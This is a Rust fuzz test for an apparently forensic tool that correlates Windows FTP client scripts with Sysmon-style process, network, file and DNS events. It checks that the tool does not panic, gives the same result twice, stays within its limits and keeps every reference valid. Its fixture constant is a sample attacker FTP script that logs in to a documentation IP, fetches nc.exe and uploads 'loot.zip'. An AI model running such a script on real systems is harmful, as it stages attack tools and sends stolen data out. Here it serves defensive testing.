//! Arbitrary facts about one script: no panic, the same twice, as few ties as the limits allow, every reference leads
//! somewhere. Each line of the input is an event: second, kind, number, parent's number, image, text.
#![no_main]

use ftpsift::artifact::event::{Direction, Dns, Endpoint, Event, File, Network, Process, Runs, Starts};
use ftpsift::base::limits::Limits;
use ftpsift::base::time::Timestamp;
use ftpsift::case::{self, Case, EventLinks};
use ftpsift::correlate::correlate;
use ftpsift::correlate::interest::Interest;
use ftpsift::correlate::processes::ProcessIndex;
use ftpsift::correlate::sources::Sources;
use ftpsift::scan::explain::explain;
use ftpsift::scan::request::ScanRequest;
use libfuzzer_sys::fuzz_target;
use std::collections::BTreeSet;

const SCRIPT: &[u8] =
    b"open 203.0.113.10\nbob\nsecret\nlcd C:\\Users\\Public\nget nc.exe\nmget a*\nput loot.zip\nbye\n";

/// One event of a line.
fn event(line: &str) -> Option<Event> {
    let mut parts = line.split('\t');
    let second: i64 = parts.next()?.parse().ok()?;
    let kind: u32 = parts.next()?.parse().ok()?;
    let pid: u64 = parts.next()?.parse().ok()?;
    let parent: u64 = parts.next()?.parse().ok()?;
    let image = parts.next().unwrap_or_default().to_owned();
    let text = parts.next().unwrap_or_default().to_owned();
    let guid = |pid: u64| (pid % 2 == 0).then(|| format!("{pid:032x}"));
    let mut event = Event {
        time: Timestamp::from_unix(second, 0),
        source: format!("sysmon-{kind}"),
        record: pid,
        host: (parent % 3 != 0).then(|| "PC1".to_owned()),
        process: Some(Process {
            executable: Some(image.clone()),
            command_line: Some(text.clone()),
            pid: Some(pid),
            guid: guid(pid),
            working_directory: (pid % 3 == 0).then(|| "C:\\Users\\Public".to_owned()),
            parent: Some(Box::new(Process { pid: Some(parent), guid: guid(parent), ..Process::default() })),
            ..Process::default()
        }),
        ..Event::default()
    };
    match kind {
        3 => {
            let end = |ip: &str, port: u64| Endpoint {
                ip: Some(ip.to_owned()),
                port: u16::try_from(port).ok(),
                domain: None,
            };
            event.network = Some(Network {
                direction: Some(if pid % 2 == 0 { Direction::Outbound } else { Direction::Inbound }),
                source: Some(end("10.0.0.5", parent)),
                destination: Some(end(&text, pid)),
                ..Network::default()
            });
        }
        11 | 15 | 23 => event.file = Some(File { path: text, ..File::default() }),
        22 => event.dns = Some(Dns { question: text.clone(), answers: vec![image], status: None }),
        100 => event.starts = Some(Starts { command_line: Some(text), ..Starts::default() }),
        101 => event.runs = Some(Runs { last: event.time.into_iter().collect(), files: vec![text], ..Runs::default() }),
        _ => {}
    }
    Some(event)
}

fuzz_target!(|bytes: &[u8]| {
    let text = String::from_utf8_lossy(bytes);
    let facts: Vec<Event> = text.lines().take(2000).filter_map(event).collect();
    let limits =
        Limits { client_runs: 50, join_candidates: 8, lineage_depth: 4, timeline_entries: 500, ..Limits::default() };
    let request = ScanRequest { limits: limits.clone(), ..ScanRequest::default() };
    let case = explain("f.txt", SCRIPT.to_vec(), Some(""), &request);
    let mut interest = Interest::of(&case);
    let mut sources = Sources::default();
    for fact in &facts {
        if interest.wants(fact) {
            interest.learn(fact);
        }
        sources.processes.add(fact, 4096);
    }
    assert!(sources.processes.bytes() <= 4096 + 8192);
    let empty = ProcessIndex::default();
    assert!(empty.is_empty());
    let events: Vec<case::Event> = facts
        .into_iter()
        .map(|fact| case::Event {
            id: String::new(),
            evidence: "e1".to_owned(),
            volume: None,
            path: "x.evtx".to_owned(),
            fact: Box::new(fact),
            links: EventLinks::default(),
        })
        .collect();
    let tied = |mut case: Case| {
        correlate(&mut case, events.clone(), &sources, &limits);
        case
    };
    let (first, second) = (tied(case.clone()), tied(case));
    let json =
        |case: &Case| serde_json::to_string(&(&case.runs, &case.claims, &case.timeline, &case.playbooks)).unwrap();
    assert_eq!(json(&first), json(&second));
    assert!(first.runs.len() <= 50 && first.timeline.len() <= 500);
    let known: BTreeSet<&str> = first.events.iter().map(|event| event.id.as_str()).collect();
    for claim in &first.claims {
        assert!(claim.executions.len() <= 8 && claim.deliveries.len() <= 8 + first.runs.len());
        assert!(claim.executions.iter().all(|execution| execution.delay_s.is_none_or(|delay| delay >= 0.0)));
        for name in claim.states.iter().flat_map(|state| &state.refs).filter(|name| name.starts_with('v')) {
            assert!(known.contains(name.as_str()));
        }
    }
});
